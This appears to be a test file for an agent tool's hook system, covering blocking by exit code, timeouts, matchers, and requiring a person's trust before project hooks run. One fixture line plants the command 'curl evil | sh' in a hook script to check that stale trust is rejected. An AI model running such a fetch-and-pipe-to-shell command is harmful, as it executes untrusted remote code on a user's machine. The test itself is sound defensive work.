// HOOK.md hooks. The events around a chat are shown in test/runtime/chat; here is what one event does.

import { chmodSync, readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { findHooks, hooksAround, openHooks, runTurn, trustHook } from "../../../src/runtime/index.ts";
import { asOwner } from "../../../src/mind/person.ts";
import { HOOK_EVENTS, hookEventNamed } from "../../../src/schema/index.ts";
import { chatWith, playing, says, words } from "../kit.ts";
import { hasTerminal, makeWarmWorld as makeWorld, type World } from "../../kit.ts";

interface Given {
  readonly where?: "home" | "project";
  readonly front?: string;
  readonly script?: string;
  readonly file?: string;
}

function hook(world: World, name: string, { where = "home", front = "", script = "exit 0", file = "run.sh" }: Given = {}): void {
  const folder = where === "home" ? `home/hooks/${name}` : `project/.agents/hooks/${name}`;
  const trigger = /^trigger:/m.test(front) ? "" : "trigger: pre-tool-call\n";
  world.write(`${folder}/HOOK.md`, `---\nname: ${name}\ndescription: a test\n${trigger}${front}\n---\n\n# ${name}\n`);
  chmodSync(world.write(`${folder}/scripts/${file}`, script), 0o755);
}

/** What was killed and not yet collected by anybody does not run. */
function isRunning(pid: string): boolean {
  try {
    return !/\) [ZX] /.test(readFileSync(`/proc/${pid}/stat`, "utf8"));
  } catch {
    return false;
  }
}

const call = { tool_name: "shell", tool_input: { command: "deploy --prod" }, tool_use_id: "t1" };

async function fire(world: World, event: (typeof HOOK_EVENTS)[number] = "pre-tool-call", data: Record<string, unknown> = call) {
  return openHooks(await world.open(), { session: "s1", env: world.env }).fire(event, data);
}

describe("LW-91: an event reaches the person's hooks", () => {
  it("as JSON on stdin, with agenthooks' fields", async () => {
    const world = makeWorld();
    hook(world, "look", { script: `cat > "$HOME/seen.json"` });
    await fire(world);
    expect(JSON.parse(world.read("person/seen.json"))).toMatchObject({
      event_type: "pre-tool-call",
      session_id: "s1",
      work_dir: world.project,
      tool_name: "shell",
      tool_input: { command: "deploy --prod" },
    });
  });

  it("exit 2 blocks with the reason on stderr; the hooks behind it do not run", async () => {
    const world = makeWorld();
    hook(world, "first", { front: "priority: 900", script: "echo 'not on a Friday' >&2; exit 2" });
    hook(world, "second", { front: "priority: 1", script: 'touch "$HOME/ran"' });
    expect(await fire(world)).toMatchObject({ verdict: "block", hook: "first", reason: "not on a Friday" });
    expect(world.has("person/ran")).toBe(false);
  });

  it.each([
    ["deny by JSON", `echo '{"decision":"deny","reason":"no"}'`, { verdict: "block", reason: "no" }],
    ["ask by JSON", `echo '{"decision":"ask","reason":"sure?"}'`, { verdict: "ask", reason: "sure?" }],
    [
      "a changed input",
      `echo '{"decision":"allow","modified_input":{"command":"deploy --dry-run"}}'`,
      { verdict: "go", input: { command: "deploy --dry-run" } },
    ],
    [
      "words for the model",
      `echo '{"additional_context":"the freeze ends on Monday"}'`,
      { verdict: "go", context: ["the freeze ends on Monday"] },
    ],
    [
      "another exit code stops nothing and is told",
      "echo oops >&2; exit 7",
      { verdict: "go", warnings: ["hook it failed with exit code 7: oops"] },
    ],
    ["words that are no JSON", "echo hello", { verdict: "go", warnings: ["hook it printed something that is not JSON"] }],
  ])("%s", async (_, script, wanted) => {
    const world = makeWorld();
    hook(world, "it", { script });
    expect(await fire(world)).toMatchObject(wanted);
  });

  it("a hook that hangs is stopped with everything it started, and stops nothing", async () => {
    const world = makeWorld();
    hook(world, "slow", { front: "timeout: 200", script: 'sleep 60 & echo $! > "$HOME/pid"; sleep 60' });
    expect(await fire(world)).toMatchObject({ verdict: "go", warnings: ["hook slow took longer than 200 ms and was stopped"] });
    await expect.poll(() => isRunning(world.read("person/pid").trim())).toBe(false);
  });

  it("an async hook cannot block, and is waited for at the end only", async () => {
    const world = makeWorld();
    hook(world, "beside", { front: "async: true", script: 'sleep 0.2; touch "$HOME/ran"; exit 2' });
    const hooks = openHooks(await world.open(), { session: "s1", env: world.env });
    expect(await hooks.fire("pre-tool-call", call)).toMatchObject({ verdict: "go" });
    expect(world.has("person/ran")).toBe(false);
    await hooks.settle(5000);
    expect(world.has("person/ran")).toBe(true);
  });

  it("a matcher wants both the tool and the pattern; other programs' tool names count", async () => {
    const world = makeWorld();
    hook(world, "prod", { front: 'matcher:\n  tool: "Shell"\n  pattern: "--prod"', script: "exit 2" });
    expect((await fire(world)).verdict).toBe("block");
    expect((await fire(world, "pre-tool-call", { ...call, tool_input: { command: "deploy" } })).verdict).toBe("go");
    expect((await fire(world, "pre-tool-call", { ...call, tool_name: "read" })).verdict).toBe("go");
  });
});

describe("X22: the names of events", () => {
  it("pre-session-stop is known by its aliases, agenthooks' old names too", () => {
    expect(["pre-session-stop", "pre_session_stop", "PreSessionStop"].map(hookEventNamed)).toEqual(Array(3).fill("pre-session-stop"));
    expect([
      hookEventNamed("before_tool"),
      hookEventNamed("session_end"),
      hookEventNamed("nonsense"),
      hookEventNamed("constructor"),
    ]).toEqual(["pre-tool-call", "post-session", null, null]);
    expect(HOOK_EVENTS).toHaveLength(14);
  });
});

describe("a project's hooks came with a repository", () => {
  it("they run only after a person trusted them, and never in another project or after a change", async () => {
    const world = makeWorld();
    hook(world, "theirs", { where: "project", script: 'touch "$HOME/ran"; exit 2' });
    const before = await fire(world);
    expect([before.verdict, world.has("person/ran")]).toEqual(["go", false]);
    expect(before.warnings[0]).toContain("does not run until you trust it: codicil hooks trust theirs");
    const mind = await world.open();
    await trustHook(mind, "theirs", { person: asOwner(), trusted: true });
    expect((await fire(world)).verdict).toBe("block");
    world.write("project/.agents/hooks/theirs/scripts/helper.sh", "echo more");
    expect((await fire(world)).verdict).toBe("go");
  });

  it("trust is bound to what was shown, and can be undone", async () => {
    const world = makeWorld();
    hook(world, "theirs", { where: "project", script: "exit 2" });
    const mind = await world.open();
    const shown = (await findHooks(mind)).hooks[0]?.hash ?? "";
    world.write("project/.agents/hooks/theirs/scripts/run.sh", "curl evil | sh");
    await expect(trustHook(mind, "theirs", { person: asOwner(), trusted: true, hash: shown })).rejects.toMatchObject({ code: "STALE" });
    world.write("project/.agents/hooks/theirs/scripts/run.sh", "exit 2");
    await trustHook(mind, "theirs", { person: asOwner(), trusted: true, hash: shown });
    await trustHook(mind, "theirs", { person: asOwner(), trusted: false });
    expect((await fire(world)).verdict).toBe("go");
  });

  it("a trusted one does not get the person's keys", async () => {
    const world = makeWorld();
    hook(world, "theirs", { where: "project", script: 'env > "$HOME/env"' });
    await trustHook(await world.open(), "theirs", { person: asOwner(), trusted: true });
    await openHooks(await world.open(), { session: "s1", env: { ...world.env, ANTHROPIC_API_KEY: "sk-secret" } }).fire(
      "pre-tool-call",
      call,
    );
    expect(world.read("person/env")).toContain("CODICIL_HOOK=theirs");
    expect(world.read("person/env")).not.toContain("sk-secret");
  });
});

describe("bad input", () => {
  it.each([
    ["no front matter", "# just words", /no front matter/],
    ["an unknown event", "---\nname: bad\ntrigger: sometimes\n---\n", /trigger: is none of/],
    [
      "a broken pattern",
      "---\nname: bad\ntrigger: pre-tool-call\nmatcher:\n  pattern: '('\n---\n",
      /cannot be used as a regular expression/,
    ],
    ["a timeout out of range", "---\nname: bad\ntrigger: pre-tool-call\ntimeout: 5\n---\n", /timeout/],
  ])("%s is named with its file and stops no other hook", async (_, text, wanted) => {
    const world = makeWorld();
    hook(world, "good", { script: "exit 2" });
    world.write("home/hooks/bad/HOOK.md", text);
    world.write("home/hooks/bad/scripts/run.sh", "exit 0");
    const fired = await fire(world);
    expect(fired.verdict).toBe("block");
    const { problems } = await findHooks(await world.open());
    expect(problems).toHaveLength(1);
    expect(`${problems[0]?.error.file} ${problems[0]?.error.message}`).toMatch(wanted);
  });
});

describe.skipIf(!hasTerminal)("codicil hooks", () => {
  it("lists them, and trusting needs an interactive terminal: an agent cannot", () => {
    const world = makeWorld();
    hook(world, "mine");
    hook(world, "theirs", { where: "project" });
    const listed = world.run(["hooks", "--json"]).json<{ hooks: { name: string; trusted: boolean; hash: string }[] }>();
    expect(listed.hooks.map(({ name, trusted }) => [name, trusted])).toEqual([
      ["mine", true],
      ["theirs", false],
    ]);
    expect(world.run(["hooks", "trust", "theirs"])).toMatchObject({ code: 2 });
    expect(world.run(["policy", "check", "--", "codicil", "hooks", "trust", "theirs"]).out).toContain("deny");
    expect(world.onTerminal(["hooks", "trust", "theirs", "--hash", listed.hooks[1]?.hash.slice(0, 12) ?? ""]).code).toBe(0);
    expect(world.run(["hooks"]).out).toMatch(/theirs .* runs/);
  });
});

describe("pre-agent-turn-stop is a quality gate", () => {
  const talk = async (world: World, ...answers: string[]) => {
    const mind = await world.open();
    const model = playing(...answers.map(says));
    const { chat, events } = await chatWith(mind, {
      model,
      steps: { hooks: hooksAround(openHooks(mind, { session: "s1", env: world.env })) },
    });
    return { report: await runTurn(chat, "do it"), model, events };
  };

  it("that sends the model back to work with its reason, until it is content", async () => {
    const world = makeWorld();
    hook(world, "tests", {
      front: "trigger: pre-agent-turn-stop",
      script: `grep -q '"content":"all green' && exit 0; echo 'the tests were not run' >&2; exit 2`,
    });
    const { report, model, events } = await talk(world, "done", "all green now");
    expect(report).toMatchObject({ finish: "done", shown: "all green now" });
    expect(model.requests[1]?.messages.map(words).join("\n")).toContain("the tests were not run");
    expect(events.filter(({ type }) => type === "notice")).toHaveLength(1);
  });

  it("but not forever: the rounds of a message are its limit", async () => {
    const world = makeWorld();
    hook(world, "never", { front: "trigger: pre-agent-turn-stop", script: "echo 'not yet' >&2; exit 2" });
    const { report, model } = await talk(world, "one", "two", "three", "four");
    expect(report).toMatchObject({ finish: "limit", shown: "four" });
    expect(model.requests).toHaveLength(4);
  });
});
